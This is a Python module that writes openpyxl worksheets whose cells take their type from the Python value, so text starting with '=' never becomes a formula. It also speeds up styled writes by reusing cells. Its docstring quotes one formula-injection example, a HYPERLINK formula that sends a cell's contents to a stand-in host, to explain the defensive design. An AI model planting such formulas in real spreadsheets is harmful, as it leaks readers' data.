"""Write-only worksheets whose cells take their type from the Python value: text is always text.

openpyxl guesses a cell's type from its value, and any text that starts with
``=`` becomes a formula (``#N/A`` an error value). A liaison's note such as
``=HYPERLINK("http://x/?"&C4,"点击")`` would then run in the next reader's
Excel (issue 12). Here a ``str`` is a text cell whatever it starts with, an
``int`` a number, a ``date`` a date; Duban writes no formulas.

It is also what makes a styled ledger of 100,000 rows cost about what a plain
openpyxl write of the same values does (issue 14): a :class:`RowStyle` builds
its styled cells once and every row reuses them, where appending fresh
styled cells to a write-only sheet costs openpyxl a new cell, a type
inference that fails and a retry per cell (2.4 times a plain write).

This leans on openpyxl's write-only internals as of 3.1 (the sheet class, its
``_values_to_row`` step, ``Workbook._add_sheet``); the ledger tests read every
part of the written workbooks back, so a change there shows.
"""
from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from datetime import date, datetime

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles.cell_style import StyleArray
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.dimensions import RowDimension

TEXT_LIMIT = 32_767   # characters Excel keeps in a cell
# What XML 1.0 cannot carry (openpyxl's own list, plus the non-characters lxml refuses).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
_CELL_TYPES = {str: "s", int: "n", float: "n", bool: "b", date: "d", datetime: "d", type(None): "n"}


def cell_text(text: str) -> str:
    """``text`` as a cell can hold it: characters XML cannot carry dropped (Word's \\x0b line
    breaks among them), at most 32,767 characters."""
    return _NOT_XML.sub("", text)[:TEXT_LIMIT]


class TypedSheet(WriteOnlyWorksheet):
    """A write-only worksheet written row by row with :meth:`write`.

    Like any write-only sheet: column widths, frozen panes, sheet properties
    and hidden columns must be set before the first row; merged ranges, data
    validation, protection and page set-up any time before saving.
    """

    def __init__(self, parent: Workbook, title: str) -> None:
        super().__init__(parent, title)
        self._rows_written = 0
        self._heights: dict[float, RowDimension] = {}

    def write(self, values: Sequence[object], style: RowStyle, height: float | None = None) -> None:
        """Append one row: ``values[i]`` in a cell of ``style``'s i-th style (as many values as
        styles), ``height`` in points."""
        for cell, value in zip(style.cells, values, strict=True):
            try:
                kind = _CELL_TYPES[type(value)]
            except KeyError:
                raise TypeError(f"a cell cannot hold {type(value).__name__}: {value!r}") from None
            if kind == "s" and (len(value) > TEXT_LIMIT or _NOT_XML.search(value)):
                value = cell_text(value)
            cell._value = value      # bypasses openpyxl's guess, which is the point
            cell.data_type = kind
        self._rows_written += 1
        number = self._rows_written
        if height is not None:
            # The writer reads a row's height when it writes the row; rows share one
            # dimension per height, dropped once written, so 100,000 rows keep none.
            self.row_dimensions[number] = self._height(height)
        self.append(style.cells)
        if height is not None:
            del self.row_dimensions[number]

    def _height(self, height: float) -> RowDimension:
        dimension = self._heights.get(height)
        if dimension is None:
            dimension = self._heights[height] = RowDimension(self, ht=height)
        return dimension

    def _values_to_row(self, cells: Sequence[Cell], row_idx: int) -> Iterator[Cell]:
        # openpyxl's version binds each appended value again and, for a
        # styled cell, fails first and retries; ours arrive typed and styled.
        for column, cell in enumerate(cells, 1):
            cell.row, cell.column = row_idx, column
            yield cell


class RowStyle:
    """The named style of each cell of a row (``None``: unstyled), resolved once.

    Its cells are reused by every row written with it: a write-only sheet
    writes a row out before :meth:`TypedSheet.write` returns.
    """

    def __init__(self, sheet: TypedSheet, names: Sequence[str | None]) -> None:
        self.cells = tuple(_FixedStyleCell(sheet, column, _resolved(sheet, name))
                           for column, name in enumerate(names, 1))


class _FixedStyleCell(Cell):
    """A cell whose style never changes once made.

    openpyxl asks a cell for its style id, a look-up by the style's hash, each
    time it writes the cell: at 100,000 rows a seventh of the ledger's time.
    """

    __slots__ = ("_fixed_id", "_styled")

    def __init__(self, sheet: TypedSheet, column: int, style: StyleArray | None) -> None:
        super().__init__(sheet, 1, column, style_array=style)
        self._styled = super().has_style
        self._fixed_id = super().style_id

    @property
    def style_id(self) -> int:
        return self._fixed_id

    @property
    def has_style(self) -> bool:
        return self._styled


def _resolved(sheet: TypedSheet, name: str | None) -> StyleArray | None:
    if name is None:
        return None
    template = WriteOnlyCell(sheet)
    template.style = name
    return template._style


def typed_sheet(workbook: Workbook, title: str) -> TypedSheet:
    """A new :class:`TypedSheet` at the end of the write-only ``workbook``."""
    sheet = TypedSheet(workbook, title)
    workbook._add_sheet(sheet)
    return sheet
